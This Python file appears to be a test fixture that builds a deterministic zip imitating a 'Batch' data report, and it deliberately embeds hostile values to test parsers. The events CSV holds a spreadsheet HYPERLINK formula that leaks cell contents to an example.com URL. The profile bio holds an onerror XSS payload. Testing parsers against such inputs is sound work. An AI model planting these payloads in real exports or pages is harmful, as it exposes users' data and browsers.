"""Makes the zip of a Batch data report. Batch does not document its layout. Ours mixes JSON and CSV.

The zip contains values that break a careless reader: non-ASCII text, a spreadsheet formula and HTML. The
same job always gives the same bytes.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

from include.sandbox.jobs import Job

FORMULA = '=HYPERLINK("https://example.com/?leak="&A1,"open")'
MARKUP = "<img src=x onerror=alert(1)>"
_EPOCH = (2026, 1, 1, 0, 0, 0)


def archive(job: Job) -> bytes:
    subject = job.subjects[0]
    profile = {
        subject.kind: subject.value,
        "language": "fr",
        "region": "FR",
        "attributes": {"nickname": "Zoë ☂ 美咲", "bio": MARKUP, "score": "007"},
        "tags": {"interests": ["café", "vélo"]},
    }
    installs = [
        {"install_id": f"{job.account}-install-{n}", "os": "android", "first_seen": f"2025-0{n}-03T08:15:00"}
        for n in (1, 2)
    ]
    events = [
        ["date", "name", "label"],
        ["2026-01-03T16:52:16.051", "cart_add", "crème brûlée"],
        ["2026-01-04T09:00:00.000", "search", FORMULA],
    ]
    messages = [["sent_at", "campaign", "opened"], ["2026-01-05T07:30:00.000", "Soldes d'été", "true"]]
    files = {
        "profile.json": _json(profile),
        "installs.json": _json(installs),
        "events.csv": _csv(events),
        "inbox/messages.csv": _csv(messages),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in files.items():
            zipped.writestr(zipfile.ZipInfo(name, _EPOCH), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False, indent=2)


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()
